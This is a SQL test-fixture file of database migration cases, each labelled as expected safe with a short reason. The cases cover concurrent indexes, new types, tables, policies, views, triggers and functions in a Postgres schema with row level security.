COMMENT ON SCHEMA private IS 'Not exposed to the Data API';
COMMENT ON INDEX public.orders_user_id_idx IS 'Used by the order history page';

-- case: create-index-concurrently-partial
-- expect: safe
-- why: concurrent partial index, alone in its file
CREATE INDEX CONCURRENTLY orders_open_idx ON public.orders (created_at) WHERE status = 'open';

-- case: create-index-concurrently-gin
-- expect: safe
-- why: concurrent GIN index, alone in its file
CREATE INDEX CONCURRENTLY IF NOT EXISTS profiles_settings_gin ON public.profiles USING gin (settings);

-- case: create-composite-type
-- expect: safe
-- why: new type
CREATE TYPE public.money_amount AS (amount numeric, currency char(3));

-- case: create-collation
-- expect: safe
-- why: new collation, nothing uses it yet
CREATE COLLATION IF NOT EXISTS public.ci_und (provider = icu, locale = 'und-u-ks-level2', deterministic = false);

-- case: create-text-search-config
-- expect: safe
-- why: new search configuration
CREATE TEXT SEARCH CONFIGURATION public.simple_copy (COPY = simple);

-- case: enum-add-value-before
-- expect: safe
-- why: adds a label; stored values unchanged
ALTER TYPE public.order_status ADD VALUE 'on_hold' BEFORE 'shipped';

-- case: create-table-like-private
-- expect: safe
-- why: new empty shadow table in a schema the API does not expose
CREATE TABLE private.orders_shadow (LIKE public.orders INCLUDING ALL);

-- case: create-unlogged-scratch-table
-- expect: safe
-- why: new unlogged scratch table; holds nothing that exists
CREATE UNLOGGED TABLE private.rate_limit_cache (key text PRIMARY KEY, hits integer NOT NULL DEFAULT 0, reset_at timestamptz NOT NULL);

-- case: replace-function-created-same-file
-- expect: safe
-- why: the function is new; the replacement only revises this file's own definition
CREATE FUNCTION public.initials(p_name text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT upper(left(p_name, 1)); $$;
CREATE OR REPLACE FUNCTION public.initials(p_name text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT upper(left(p_name, 2)); $$;

-- case: replace-view-created-same-file-keeps-invoker
-- expect: safe
-- why: view created in this file, replaced with invoker rights kept
CREATE VIEW public.recent_orders WITH (security_invoker = true) AS
SELECT id, user_id, created_at FROM public.orders WHERE created_at > now() - interval '7 days';
CREATE OR REPLACE VIEW public.recent_orders WITH (security_invoker = true) AS
SELECT id, user_id, created_at, status FROM public.orders WHERE created_at > now() - interval '7 days';

-- case: policy-replaced-same-file
-- expect: safe
-- why: table and policies all new; the drop only revises this file's own policy
CREATE TABLE public.comments (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  author uuid NOT NULL DEFAULT auth.uid(),
  body text NOT NULL
);
ALTER TABLE public.comments ENABLE ROW LEVEL SECURITY;
CREATE POLICY "Authors read" ON public.comments FOR SELECT TO authenticated USING ((SELECT auth.uid()) = author);
DROP POLICY "Authors read" ON public.comments;
CREATE POLICY "Authors read own comments" ON public.comments FOR SELECT TO authenticated USING ((SELECT auth.uid()) = author);

-- case: new-table-fk-added-later-same-file
-- expect: safe
-- why: constraint added to a table created in the same file
CREATE TABLE public.invoices (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  order_id bigint NOT NULL,
  amount numeric NOT NULL
);
ALTER TABLE public.invoices ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.invoices ADD CONSTRAINT invoices_order_id_fkey FOREIGN KEY (order_id) REFERENCES public.orders (id);
CREATE INDEX invoices_order_id_idx ON public.invoices (order_id);

-- case: new-table-generated-column
-- expect: safe
-- why: generated column on a new, empty table
CREATE TABLE private.line_totals (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  quantity integer NOT NULL,
  unit_price numeric NOT NULL,
  total numeric GENERATED ALWAYS AS (quantity * unit_price) STORED
);

-- case: set-local-timeout-create-table
-- expect: safe
-- why: transaction-local timeout, then a new private table
SET LOCAL statement_timeout = '60s';
CREATE TABLE private.exports (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), requested_by uuid NOT NULL, created_at timestamptz NOT NULL DEFAULT now());

-- case: insert-select-into-new-table
-- expect: safe
-- why: copies current prices into a table created in the same file
CREATE TABLE private.price_history (sku text NOT NULL, price numeric NOT NULL, recorded_at timestamptz NOT NULL DEFAULT now());
INSERT INTO private.price_history (sku, price) SELECT sku, price FROM public.products;

-- case: new-table-trigger-existing-function
-- expect: safe
-- why: a trigger on a table created in the same file
CREATE TABLE public.projects (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  owner uuid NOT NULL DEFAULT auth.uid(),
  name text NOT NULL,
  updated_at timestamptz
);
ALTER TABLE public.projects ENABLE ROW LEVEL SECURITY;
CREATE TRIGGER projects_touch BEFORE UPDATE ON public.projects FOR EACH ROW EXECUTE FUNCTION private.touch_updated_at();

-- case: create-function-plpgsql-invoker
-- expect: safe
-- why: new validation helper with caller's rights
CREATE FUNCTION public.is_valid_username(p text)
RETURNS boolean
LANGUAGE plpgsql
IMMUTABLE
AS $$
BEGIN
  RETURN p ~ '^[a-z0-9_]{3,20}$';
END;
$$;
